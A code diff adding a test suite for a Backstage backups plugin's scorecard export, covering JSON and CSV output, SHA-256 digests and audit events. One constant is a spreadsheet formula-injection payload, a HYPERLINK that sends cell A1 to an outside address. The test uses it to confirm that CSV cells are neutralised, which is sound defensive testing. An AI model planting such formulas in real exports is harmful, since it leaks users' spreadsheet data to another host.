@@ -1,0 +1,138 @@
+import { createHash } from 'node:crypto';
+import {
+  createMockDirectory,
+  mockServices,
+} from '@backstage/backend-test-utils';
+import { AuthorizeResult } from '@backstage/plugin-permission-common';
+import {
+  ScorecardExport,
+  ScorecardPage,
+} from 'backstage-plugin-backups-common';
+import request from 'supertest';
+import { copiedApp } from '../../../__testUtils__/manifests';
+import {
+  componentEntity,
+  permissionsThat,
+  startBackups,
+} from '../../../__testUtils__/startBackups';
+import { BASE } from '../../__testUtils__/routeUrl';
+
+const NOW = '2026-08-22T10:00:00Z';
+const COPIED = new Date('2026-08-22T09:30:00Z');
+const FORMULA = '=HYPERLINK("https://example.com/?"&A1,"look")';
+
+function digest(text: string): string {
+  return createHash('sha256').update(text).digest('hex');
+}
+
+describe('the export', () => {
+  const folder = createMockDirectory();
+
+  async function start(permissions = permissionsThat(AuthorizeResult.ALLOW)) {
+    folder.setContent({
+      'all.json': JSON.stringify({
+        kind: 'List',
+        items: [
+          ...copiedApp('radarr', COPIED),
+          ...copiedApp('sonarr', COPIED),
+          ...copiedApp('bazarr', new Date('2026-08-01T09:30:00Z')),
+        ],
+      }),
+    });
+    const audited: { eventId: string; meta?: unknown; outcome: string }[] = [];
+    const auditor = mockServices.auditor.mock({
+      createEvent: async ({ eventId }) => ({
+        success: async options => {
+          audited.push({ eventId, meta: options?.meta, outcome: 'success' });
+        },
+        fail: async () => {
+          audited.push({ eventId, outcome: 'fail' });
+        },
+      }),
+    });
+    const sonarr = componentEntity('sonarr');
+    const { server } = await startBackups({
+      backups: {
+        folders: [
+          { cluster: 'home-1', path: folder.path, asOf: NOW, complete: true },
+        ],
+      },
+      entities: [
+        componentEntity('radarr'),
+        componentEntity('bazarr'),
+        { ...sonarr, metadata: { ...sonarr.metadata, title: FORMULA } },
+      ],
+      permissions,
+      features: [auditor.factory],
+    });
+    return { server, audited };
+  }
+
+  it('has the numbers of the page for the same filter, and says what it was made from', async () => {
+    const { server } = await start();
+    const filter = 'verdict=protected&q=a';
+    const page: ScorecardPage = (
+      await request(server).get(`${BASE}/entities?${filter}`).expect(200)
+    ).body;
+    const response = await request(server)
+      .get(`${BASE}/scorecard/export?${filter}&days=7`)
+      .expect(200)
+      .expect('content-disposition', /backups-2026-08-22\.json/);
+    const { header, body }: ScorecardExport = response.body;
+    expect(body.entities).toMatchObject(
+      page.entities.map(({ sla, ...row }) => row),
+    );
+    expect(header).toMatchObject({
+      now: page.now,
+      clock: 'dump',
+      coverage: page.coverage,
+      query: 'verdict=protected&q=a',
+      filter: { verdict: ['protected'], q: 'a' },
+      scope: 'everything',
+      requestedBy: 'user:default/mock',
+      period: { days: 7, from: '2026-08-15', to: '2026-08-21' },
+      ruleVersions: [{ version: '1', entities: body.entities.length }],
+      sources: expect.arrayContaining([
+        expect.objectContaining({ ageSeconds: 0, current: true }),
+      ]),
+    });
+    expect(header.sha256).toBe(digest(JSON.stringify(body)));
+  });
+
+  it('writes a CSV whose digest is that of its table, and in which no name is a formula', async () => {
+    const { server, audited } = await start();
+    const { text } = await request(server)
+      .get(`${BASE}/scorecard/export?format=csv&sort=name`)
+      .expect(200)
+      .expect('content-type', /text\/csv/);
+    const cut = text.indexOf('\n\n');
+    const [heads, table] = [text.slice(0, cut), text.slice(cut + 2)];
+    expect(heads.split('\n').every(line => line.startsWith('#'))).toBe(true);
+    expect(heads).toContain(`# SHA-256 of the table,${digest(table)}`);
+    expect(table.trimEnd().split('\n')).toHaveLength(1 + 3);
+    expect(table).toContain(`"'=HYPERLINK(`);
+    expect(table).not.toMatch(/(^|,)"?[=+\-@\t]/m);
+    expect(audited).toEqual([
+      {
+        eventId: 'scorecard-export',
+        outcome: 'success',
+        meta: {
+          format: 'csv',
+          query: 'sort=name',
+          days: 30,
+          entities: 3,
+          scope: 'everything',
+          sha256: digest(table),
+        },
+      },
+    ]);
+  });
+
+  it('is audited when it is refused, too', async () => {
+    const { server, audited } = await start(
+      permissionsThat(AuthorizeResult.DENY),
+    );
+    await request(server).get(`${BASE}/scorecard/export`).expect(403);
+    expect(audited).toEqual([{ eventId: 'scorecard-export', outcome: 'fail' }]);
+  });
+});
